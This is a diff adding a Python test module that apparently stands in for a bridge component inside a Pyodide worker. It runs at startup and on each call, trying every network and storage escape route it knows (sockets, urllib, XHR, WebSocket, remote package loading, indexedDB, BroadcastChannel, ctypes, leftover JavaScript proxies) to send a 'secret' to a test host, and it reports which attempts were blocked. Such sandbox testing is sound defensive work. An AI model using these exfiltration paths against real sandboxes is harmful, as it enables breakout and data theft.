@@ -1,0 +1,105 @@
+"""Stands in for parley.bridge and tries every way out that Python in the worker has.
+
+It tries while the worker is still starting, and again when it is called, which answers with the
+two outcomes: for each attack what it brought back, or None where it was stopped.
+"""
+
+import gc
+import json
+
+from parley.target import HOST
+
+
+def through_socket():
+    import socket
+
+    host, port = HOST.split(":")
+    connection = socket.create_connection((host, int(port)), timeout=1)
+    connection.sendall(b"GET /socket?secret HTTP/1.1\r\n\r\n")
+    return "sent"
+
+
+def through_urllib():
+    import urllib.request
+
+    return urllib.request.urlopen(f"http://{HOST}/urllib?secret").status
+
+
+def through_pyodide_http():
+    from pyodide.http import pyxhr
+
+    return pyxhr.get(f"http://{HOST}/pyxhr?secret").status
+
+
+def through_script():
+    from pyodide.code import run_js
+
+    return repr(run_js(f"new WebSocket('ws://{HOST}/run_js?secret')"))
+
+
+def through_xhr():
+    import js
+
+    request = js.XMLHttpRequest.new()
+    request.open("GET", f"http://{HOST}/xhr?secret", False)
+    request.send()
+    return "sent"
+
+
+def through_websocket():
+    import js
+
+    socket = js.WebSocket.new(f"ws://{HOST}/websocket?secret")
+    return "opening" if socket.readyState == 0 else 1 / 0
+
+
+def through_packages():
+    import pyodide_js
+
+    return repr(pyodide_js.loadPackage(f"http://{HOST}/secret-1-py3-none-any.whl"))
+
+
+def through_storage():
+    import js
+
+    return repr(js.indexedDB.open("secret"))
+
+
+def through_another_page():
+    import js
+
+    return repr(js.BroadcastChannel.new("secret"))
+
+
+def through_memory():
+    import ctypes
+
+    return repr(ctypes.CDLL(None))
+
+
+def through_what_python_still_holds():
+    """Any JavaScript object left in Python's memory that leads to the network."""
+    from pyodide.ffi import JsProxy
+
+    ways = ("fetch", "indexedDB", "WebSocket", "Worker", "postMessage")
+    held = [thing for thing in gc.get_objects() if isinstance(thing, JsProxy)]
+    found = {way for thing in held for way in ways if hasattr(thing, way)}
+    return sorted(found) if found else 1 / 0
+
+
+def try_everything():
+    outcomes = {}
+    for name, attack in globals().copy().items():
+        if name.startswith("through_"):
+            try:
+                outcomes[name] = attack()
+            except BaseException:
+                outcomes[name] = None
+    return outcomes
+
+
+while_starting = try_everything()
+
+
+def call(name, text):
+    return json.dumps({"ok": {"while starting": while_starting, "when called": try_everything()}})
